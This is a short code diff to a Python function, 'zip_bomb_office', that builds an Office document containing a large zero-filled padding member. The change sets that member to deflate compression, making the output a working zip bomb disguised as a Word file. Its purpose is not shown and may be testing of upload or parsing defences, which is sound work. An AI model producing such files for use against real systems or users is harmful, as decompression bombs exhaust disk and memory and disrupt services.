@@ -194,7 +194,9 @@ def zip_bomb_office(source: Path, target: Path, bomb_bytes: int) -> Path:
     with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as bomb:
         for item in original.infolist():
             bomb.writestr(item, original.read(item.filename))
-        with bomb.open(zipfile.ZipInfo("word/media/padding.bin"), "w", force_zip64=True) as member:
+        padding = zipfile.ZipInfo("word/media/padding.bin")
+        padding.compress_type = zipfile.ZIP_DEFLATED
+        with bomb.open(padding, "w", force_zip64=True) as member:
             block = b"\x00" * (1 << 20)
             for _ in range(bomb_bytes >> 20):
                 member.write(block)
